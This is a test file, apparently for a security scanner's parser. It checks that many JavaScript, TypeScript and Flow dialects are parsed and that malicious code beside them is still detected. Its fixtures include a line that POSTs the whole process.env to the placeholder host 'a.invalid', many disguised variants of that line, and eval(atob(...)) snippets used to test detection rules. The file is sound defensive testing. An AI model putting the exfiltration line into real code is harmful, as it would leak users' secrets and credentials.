import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { parse } from '../src/parse/parse.js';
import { index } from '../src/parse/tree.js';
import { endOf, startOf, walk } from '../src/parse/walk.js';
import { scanSource } from '../src/scan.js';
import type { AnyNode, Parsed } from '../src/types.js';

const SENT = "require('https').request({ host: 'a.invalid', method: 'POST' }).end(JSON.stringify(process.env));";

const rulesOf = (text: string, path: string): readonly string[] => scanSource(text, { path }).map(({ rule }) => rule);

/** Syntax of each kind, and the ending of a file that may hold it. */
const SYNTAX: Readonly<Record<string, readonly [path: string, code: string]>> = {
  'TypeScript accessor': ['a.ts', '@store class A { @watched accessor title: string = f(); static accessor #n = 0; }'],
  'accessor beside JSX': ['a.js', 'class A { accessor title = 1; view = <b/>; }'],
  'accessor that is abstract': ['a.ts', 'abstract class A { abstract accessor title: string; }'],
  'export from of a default': ['a.js', "export Button from './button'; export Row, { cell } from './row';"],
  'export from of a default called type': ['a.js', "export type from './type';"],
  'deferred import': ['a.ts', "import defer * as late from './late'; late.run();"],
  'import of a source phase': ['a.js', "import source wasm from './a.wasm'; import.source('./b.wasm'); <b/>;"],
  'import attributes': [
    'a.js',
    "import a from './a.json' with { type: 'json' }; export * from './b.json' assert { type: 'json' };",
  ],
  'using and await using': ['a.ts', 'async function f() { using a = g(); await using b: T = h(); }'],
  'decorators of the standard': ['a.js', '@a.b(c) @(d[e]) export class F { @g #h = 1; @i static async *j() {} }'],
  'decorators as they were': ['a.ts', '@a[b]() class F { constructor(@Inject() private readonly g: G, @h i?: I) {} }'],
  'regular expressions of sets': ['a.js', 'const a = /[\\p{L}--[a-z]]/v, b = /(?<y>a)|(?<y>b)/; <b/>;'],
  'old TypeScript imports': ['a.ts', "import fs = require('fs'); import b = fs.promises; export = b;"],
  'declarations of TypeScript': [
    'a.ts',
    'declare const a: any; declare global { var b: string } namespace C.D { export const e = 1; } enum F { G = 1 << 2 }',
  ],
  'JSX in TypeScript': ['a.tsx', 'const a = <T,>(b: T) => <C<T> d={b as never} {...e}>{b!}</C>;'],
  'a hashbang and comments of HTML': ['a.js', '#!/usr/bin/env node\n<!-- one\nrun();\n--> two\n'],
  'sloppy code': [
    'a.js',
    "with (a) b = 010 + '\\07'.length; delete c; var let; yield = await; function f(a, a) {} if (g) function h() {}",
  ],
  'Flow components and hooks': [
    'a.js',
    "component A(b: T, 'data-c' as { d }: E = f, ...rest: R) renders? G { return <div {...rest}>{b}</div>; } hook useB(): void {}",
  ],
  'Flow match': [
    'a.js',
    "const a = match (b) { { kind: 'c', const d, ...const rest } if (d) => d, [const e, ...] => e, 1 | 2 => f, _ => null }; match (b) { const g => { h(g); } }",
  ],
  'Flow enums and records': ['a.js', "enum A of string { B = 'c' } record D { e: number, f: string = 'g' }"],
  'Flow types': [
    'a.js',
    'import typeof A from "a"; opaque type B<+C> = {| +d?: ?C, [[e]]: f |}; const g = (h: any); declare function i(): j is k;',
  ],
  proposals: [
    'a.js',
    'a = do { if (b) c; else d; }; e::f(g); h |> i(%); throw_ = () => throw j; k = #{ l: #[1] }; m?.n = 1; async do { await 1 };',
  ],
  'pipes of another kind': ['a.js', 'a |> b(^) |> c(^, 1);'],
  'functions of V8': ['a.js', '%DebugPrint(a); <b/>;'],
};

describe('syntax that compilers take', () => {
  test.each(Object.entries(SYNTAX))(
    '%s is parsed as a whole, and what stands beside it analysed',
    (_, [path, code]) => {
      const { grammar, unparsed } = parse({ path, text: `${code}\n${SENT}` });
      expect([grammar, unparsed]).toEqual([expect.not.stringMatching('lexical'), undefined]);
      // `export =` and imports make a module, in which `require` is a name like any other; it stays the global.
      expect(rulesOf(`${code}\n${SENT}`, path)).toContain('sends-environment');
    },
  );

  test.each(Object.entries(SYNTAX))('%s gives places that are exact', (_, [path, code]) => {
    // Characters of one, two, three and four bytes, and a line separator, stand before.
    const before = "'é€\u{1F600}\u2028';\n";
    const text = code.startsWith('#!') ? code.replace('\n', `\n${before}`) : before + code;
    const parsed = parse({ path, text });
    expect(parsed.unparsed).toBeUndefined();
    for (const node of nodesOf(parsed)) {
      if (node.type !== 'Identifier' || /^\(|^(?:require|module|exports|default|undefined|bind)$/.test(node.name))
        continue;
      expect(text.slice(startOf(node), endOf(node)), node.name).toMatch(
        new RegExp(`^${node.name.replace('$', '\\$')}`),
      );
    }
  });
});

describe('dialects run as the plain JavaScript they are', () => {
  const flagged = (path: string, code: string): readonly string[] => rulesOf(code, path);
  const send = (value: string): string =>
    `require('https').request({ host: 'a.invalid', method: 'POST' }).end(JSON.stringify(${value}));`;

  test.each([
    ['what an accessor holds', 'a.ts', `class A { accessor sent = ${send('process.env').slice(0, -1)} }`],
    [
      'a module that TypeScript imports',
      'a.ts',
      `import https = require('https'); https.request({ host: 'a.invalid' }).end(JSON.stringify(process.env));`,
    ],
    [
      'a global that is only declared',
      'a.ts',
      `declare const require: any; declare var process: any; ${send('process.env')}`,
    ],
    ['a namespace', 'a.ts', `namespace A { export const all = process.env; } ${send('A.all')}`],
    [
      'an enum',
      'a.ts',
      "enum A { Net = 'https' } require(A.Net).request({ host: 'a.invalid' }).end(JSON.stringify(process.env));",
    ],
    ['a case that binds what is matched', 'a.js', `match (process.env) { const all => { ${send('all')} } }`],
    ['the value of a match', 'a.js', `const all = match (a) { 1 => process.env, _ => null }; ${send('all')}`],
    ['a do expression', 'a.js', `const all = do { process.env; }; ${send('all')}`],
    ['a pipe', 'a.js', `process.env |> JSON.stringify(%) |> require('https').request({ host: 'a.invalid' }).end(%);`],
  ])('%s', (_, path, code) => {
    expect(flagged(path, code)).toContain('sends-environment');
  });

  test('a name that a pattern binds is not the global it is called like', () => {
    expect(flagged('a.js', `match (a) { { const process } => { ${send('process.env')} } }`)).not.toContain(
      'sends-environment',
    );
  });

  test('a type sends nothing', () => {
    expect(flagged('a.ts', `type A = typeof process.env; ${send('null as unknown as A')}`)).toEqual([]);
  });
});

describe('around a mistake the rest is analysed', () => {
  test.each([
    ['a text that does not end', `${SENT}\nconsole.log(\`thanks\n`],
    ['brackets that do not close', `run(function () {\n  ${SENT}\n  more(`],
    ['syntax nobody knows, before', `let a ==> b <== c;\n${SENT}`],
    [
      'syntax nobody knows, inside of a function',
      `module.exports = {\n  a() { ${SENT} },\n  b() { x := 1; return 2; },\n};`,
    ],
    ['several mistakes', `a b c ~> d;\n${SENT}\nfunction f( { return }\ne := 1;\n`],
  ])('%s', (_, text) => {
    const { grammar, unparsed } = parse({ path: 'a.js', text });
    expect(grammar).not.toBe('lexical');
    expect(unparsed?.length).toBeGreaterThan(0);
    for (const { start, end } of unparsed ?? []) expect(text.slice(start, end)).not.toContain('process.env');
    expect(rulesOf(text, 'a.js')).toContain('sends-environment');
  });

  test('what is left out is searched as text', () => {
    expect(rulesOf(`ok();\nlet a ==> eval(atob('x'));\nok();`, 'a.js')).toEqual(['resists-parsing']);
    expect(rulesOf(`eval_(atob_('x'));\nlet a ==> b;\nok();`, 'a.js')).toEqual([]);
  });

  test('a text that is no code is not made one', () => {
    const { grammar, unparsed } = parse({ path: 'a.js', text: 'Dear reader, this is ( no code { at all' });
    expect(grammar).toBe('lexical');
    expect(unparsed).toEqual([{ start: 0, end: 39, why: expect.any(String) }]);
  });

  test('whatever the text, nothing is thrown, and what is left out lies inside of it', () => {
    const piece = fc.constantFrom(
      '{',
      '}',
      '(',
      ')',
      '[',
      ']',
      '`',
      '${',
      "'",
      '"',
      ';',
      '\n',
      ',',
      'a',
      ' = ',
      'function f',
      '=>',
      '/',
      '<',
      '>',
      '//',
      '/*',
      '*/',
      '?',
      ':',
      '@',
      '#',
      'return ',
      'if ',
      'class A ',
      'import ',
      '\\',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), pieces => {
        const text = pieces.join('');
        const parsed = parse({ path: 'a.js', text });
        expect(parsed.program === undefined).toBe(parsed.grammar === 'lexical');
        for (const { start, end } of parsed.unparsed ?? []) {
          expect(start).toBeLessThanOrEqual(end);
          expect(end).toBeLessThanOrEqual(text.length);
        }
      }),
      { numRuns: 300, seed: 12 },
    );
  });
});

describe('depth and steps', () => {
  const deep = (open: string, inside: string, close: string, times: number): string =>
    open.repeat(times) + inside + close.repeat(times);

  test('parentheses around parentheses cost no stack', () => {
    const text = `0 && ${deep('(', '1', ')', 20_000)};\n${SENT}`;
    expect(rulesOf(text, 'a.js')).toContain('sends-environment');
    expect(rulesOf(text, 'a.ts')).toContain('sends-environment');
  });

  test('parentheses that mean something stay', () => {
    const { program } = parse({ path: 'a.js', text: `f(((a, b)))${deep('(', 'c', ')', 20_000)}` });
    const call = JSON.stringify(program, (key, value) => (key === 'start' || key === 'end' ? undefined : value));
    expect(call).toContain('"SequenceExpression"');
  });

  test('nor do labels in front of labels', () => {
    const labels = Array.from({ length: 8_000 }, (_, at) => `l${at}: `).join('');
    expect(rulesOf(`${labels};\n${SENT}`, 'a.js')).toContain('sends-environment');
    expect(rulesOf(`${labels}for (;;) { break l7999; }\n${SENT}`, 'a.js')).toContain('sends-environment');
  });

  test('what nests too deep for every parser is said to, and searched as text', () => {
    const text = `${deep('[', '', ']', 50_000)};eval(atob('x'))`;
    expect(parse({ path: 'a.js', text })).toMatchObject({
      grammar: 'lexical',
      unparsed: [{ why: 'nests too deep for any parser' }],
    });
    expect(rulesOf(text, 'a.js')).toContain('resists-parsing');
  });

  test('a dense table is no row of labels', () => {
    const text = `const table: object = {${Array.from({ length: 2_000 }, (_, at) => `a${at}:b`).join(',')}};`;
    expect(parse({ path: 'a.ts', text }).grammar).toBe('babel');
  });

  test('a parser that goes back again and again is stopped', () => {
    for (const [path, open] of [
      ['a.ts', '<T>('],
      ['a.ts', 'f<T>('],
      ['a.js', 'a?'],
      ['a.js', 'async('],
      ['a.js', 'a?['],
    ] as const)
      expect(parse({ path, text: open.repeat(60) }).grammar).toBe('lexical');
  });

  test('a Flow file after one that broke the parser of Flow is parsed as ever', () => {
    const flow = { path: 'a.js', text: 'component A() { return null; }' };
    for (let times = 0; times < 8; times++) parse({ path: 'b.js', text: `hook useA() {}${'('.repeat(700)}` });
    expect(parse(flow).grammar).toBe('flow');
  });
});

function nodesOf({ program, ...parsed }: Parsed): readonly AnyNode[] {
  const found: AnyNode[] = [];
  if (!program) return found;
  index({ ...parsed, program });
  walk(program as AnyNode, node => {
    found.push(node);
    return false;
  });
  return found;
}
